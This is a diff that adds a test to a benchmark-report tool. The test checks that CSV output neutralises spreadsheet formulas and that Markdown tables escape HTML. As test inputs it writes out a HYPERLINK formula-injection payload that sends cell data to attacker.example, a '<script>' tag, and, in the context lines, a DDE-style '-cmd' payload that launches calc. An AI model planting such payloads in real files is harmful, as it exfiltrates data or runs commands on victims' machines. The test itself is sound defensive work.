@@ -71,6 +71,25 @@ def test_formula_reasons_are_text_in_summary_csv(tmp_path: Path) -> None:
     assert any(cell.startswith("'=HYPERLINK") for cell in cells)
 
 
+def test_a_client_host_s_words_are_text_in_every_csv_and_in_tables_md(tmp_path: Path) -> None:
+    """compare.csv is made safe like summary.csv; a warning's words are not Markdown."""
+    first, second = small_run(tmp_path / "a"), small_run(tmp_path / "b")
+    payload = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    for root in (first, second):
+        meta_path = root / "concurrent" / "django-daphne" / "GET.meta.json"
+        meta = json.loads(meta_path.read_text())
+        meta["client_limits"]["reasons"] = [payload + " <script>x</script>"]
+        meta_path.write_text(json.dumps(meta))
+    main(["report", str(first)])
+    main(["compare", str(first), str(second), "--out", str(tmp_path / "cmp")])
+    for path in (tmp_path / "cmp").glob("*.csv"):
+        with path.open(newline="") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))], path
+    tables_md = (first / "report" / "tables.md").read_text()
+    assert "<script>" not in tables_md and r"\<script\>" in tables_md
+
+
 def test_spreadsheet_text_leaves_numbers_and_plain_text() -> None:
     assert spreadsheet_text("-cmd|' /C calc'!A0") == "'-cmd|' /C calc'!A0"
     assert spreadsheet_text("@SUM(A1)") == "'@SUM(A1)"
